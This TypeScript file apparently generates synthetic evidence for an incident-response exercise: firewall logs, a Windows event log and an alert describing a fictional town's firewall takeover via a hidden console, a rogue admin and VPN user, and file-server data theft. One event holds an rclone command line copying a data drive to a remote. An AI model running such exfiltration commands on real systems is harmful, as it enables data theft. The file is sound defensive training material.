import { writeEvtx } from "../evtx-writer/writer.ts";
import type { ExampleFile } from "../examples/files.ts";
import { createRandom, type Random } from "../examples/random.ts";
import {
  logon,
  logonFailure,
  processCreated,
  toEvtxRecords,
  type WindowsEvent,
} from "../examples/windows.ts";
import { type FortiGate, systemLine, trafficLine, tunnelLine } from "./fortigate.ts";
import { createLines, type Lines, scatter, utc } from "./lines.ts";

const from = utc("2024-12-05 06:00:00");
const to = utc("2024-12-06 16:00:00");
const strike = utc("2024-12-06 01:10:00");
const attacker = "198.51.100.9";
const tunnel = "10.212.134.201";
const server = "SRV1.stadt.example";
const at = (ms: number) => `${new Date(ms).toISOString().slice(0, -1)}0000Z`;

/**
 * A town's firewall is taken: its hidden console makes an administrator, who downloads the configuration, makes a VPN user and opens the
 * policy; over the VPN to the file server, whose data leaves. By day the real administrator changes addresses, and the manager takes its backup.
 */
export function edgeIncident(): ExampleFile[] {
  const random = createRandom(1206);
  return [
    { path: "organisation.yml", content: organisation },
    { path: "alert.json", content: alert },
    { path: "evidence/firewall/fortigate.log", content: firewall({ name: "FG-EDGE", offset: 1, random }) },
    { path: "evidence/SRV1/Security.evtx", content: writeEvtx(toEvtxRecords(security(random))) },
  ];
}

function firewall(gate: FortiGate): string {
  const log = createLines();
  ordinaryDays(gate, log);
  takeover(gate, log);
  return log.text();
}

function signIn(
  gate: FortiGate,
  log: Lines,
  ms: number,
  user: string,
  ui: string,
  source: string,
  ok = true,
) {
  const outcome = ok ? "success" : "failed";
  const words = ok ? "login successfully" : "login failed";
  log.add(
    ms,
    systemLine(
      gate,
      ms,
      ok ? "0100032001" : "0100032002",
      `logdesc="Admin login ${ok ? "successful" : "failed"}" user="${user}" ui="${ui}" srcip=${source} dstip=198.51.100.2 action="login" status="${outcome}" profile="super_admin" msg="Administrator ${user} ${words} from ${ui}"`,
    ),
  );
}

function change(
  gate: FortiGate,
  log: Lines,
  ms: number,
  user: string,
  ui: string,
  what: [string, string, string],
) {
  const [action, path, object] = what;
  log.add(
    ms,
    systemLine(
      gate,
      ms,
      "0100044546",
      `logdesc="Attribute configured" user="${user}" ui="${ui}" action="${action}" cfgtid=${ms % 100_000} cfgpath="${path}" cfgobj="${object}" cfgattr="x" msg="${action} ${path} ${object}"`,
    ),
  );
}

function ordinaryDays(gate: FortiGate, log: Lines): void {
  const { random } = gate;
  scatter(random, 60, from, to, (ms) =>
    signIn(gate, log, ms, random.pick(["admin", "root"]), "https(91.240.118.5)", "91.240.118.5", false),
  );
  for (const time of ["2024-12-05 08:00:00", "2024-12-05 13:00:00", "2024-12-06 08:00:00"]) {
    signIn(gate, log, utc(time), "netadmin", "https(10.40.0.7)", "10.40.0.7");
    change(gate, log, utc(time) + 60_000, "netadmin", "https(10.40.0.7)", [
      "Edit",
      "firewall.address",
      "printer-12",
    ]);
  }
  for (const time of ["2024-12-05 08:30:00", "2024-12-06 08:30:00"])
    log.add(
      utc(time),
      systemLine(
        gate,
        utc(time),
        "0100032120",
        'logdesc="Configuration backed up" user="manager" ui="https(10.40.0.9)" action="backup" status="success" msg="User manager backed up config by scp from https(10.40.0.9)"',
      ),
    );
  // The staff at home, of whom many live beyond a border that nobody thought of when the profile was written.
  scatter(random, 40, from, to, (ms) =>
    log.add(
      ms,
      tunnelLine(gate, ms, {
        user: `user${random.between(1, 20)}`,
        from: `85.10.${random.between(1, 9)}.${random.between(1, 250)}`,
        address: `10.212.134.${random.between(10, 90)}`,
      }),
    ),
  );
  scatter(random, 1200, from, to, (ms) =>
    log.add(
      ms,
      trafficLine(gate, ms, {
        from: `10.40.1.${random.between(20, 60)}`,
        to: random.pick(["142.250.74.46", "13.107.42.14"]),
        port: 443,
        sent: random.between(400, 60_000),
      }),
    ),
  );
}

function takeover(gate: FortiGate, log: Lines): void {
  const ui = `https(${attacker})`;
  const made = "support2";
  signIn(gate, log, strike, "Local_Process_Access", "jsconsole", "127.0.0.1");
  change(gate, log, strike + 60_000, "Local_Process_Access", "jsconsole(127.0.0.1)", [
    "Add",
    "system.admin",
    made,
  ]);
  signIn(gate, log, strike + 200_000, made, ui, attacker);
  const taken = strike + 260_000;
  log.add(
    taken,
    systemLine(
      gate,
      taken,
      "0100032120",
      `logdesc="Configuration backed up" user="${made}" ui="${ui}" action="download" status="success" msg="System config file has been downloaded by user ${made} via ${ui}"`,
    ),
  );
  change(gate, log, strike + 400_000, made, ui, ["Add", "user.local", "vpnuser9"]);
  change(gate, log, strike + 420_000, made, ui, ["Edit", "user.group", "vpn"]);
  change(gate, log, strike + 460_000, made, ui, ["Add", "firewall.policy", "77"]);
  const session = { user: "vpnuser9", from: attacker, address: tunnel };
  log.add(strike + 1_800_000, tunnelLine(gate, strike + 1_800_000, session));
  for (let i = 0; i < 6; i++) {
    const ms = strike + 2_500_000 + i * 300_000;
    log.add(
      ms,
      trafficLine(gate, ms, { from: "10.40.1.5", to: "198.51.100.88", port: 443, sent: 900_000_000 }),
    );
  }
}

function security(random: Random): WindowsEvent[] {
  const events: WindowsEvent[] = [];
  let id = 0x5000;
  scatter(random, 400, from, to, (ms) => {
    const n = random.between(20, 60);
    events.push(
      logon({
        time: at(ms),
        computer: server,
        user: `user${n}`,
        domain: "STADT",
        type: 3,
        address: `10.40.1.${n}`,
        port: 50_000,
        workstation: `PC${n}`,
        logonId: ++id,
      }),
    );
  });
  const session = { computer: server, user: "admin.it", domain: "STADT", address: tunnel, port: 50_002 };
  for (let i = 0; i < 3; i++)
    events.push(
      logonFailure({ ...session, time: at(strike + 1_990_000 + i * 3000), type: 3, workstation: "DESK-X" }),
    );
  events.push(
    logon({ ...session, time: at(strike + 2_003_000), type: 10, workstation: "SRV1", logonId: ++id }),
  );
  events.push(
    processCreated({
      time: at(strike + 2_400_000),
      computer: server,
      user: "admin.it",
      domain: "STADT",
      image: "C:\\Users\\Public\\rclone.exe",
      parent: "C:\\Windows\\System32\\cmd.exe",
      commandLine: "rclone.exe copy D:\\Daten remote:x --transfers 8",
      pid: 5000,
    }),
  );
  return events;
}

const organisation = `name: Town
timeZone: Europe/Berlin
operatingCountries: [DE, US]
internalNetworks: [10.40.0.0/16, 10.212.134.0/24]
gateways: [10.40.0.1]
domains: [stadt.example]
assets:
  - { name: SRV1, addresses: [10.40.1.5], role: file server, critical: true }
`;

/** As a QRadar offense has it: no word of a host, the title is the description. */
const alert = `${JSON.stringify({ id: 4411, description: "New administrator on perimeter device", offense_source: attacker, severity: 7, start_time: strike + 60_000, status: "OPEN", log_sources: [{ name: "FG-EDGE", type_name: "FortiGate" }], categories: ["Superuser Account Created"] }, null, 2)}\n`;
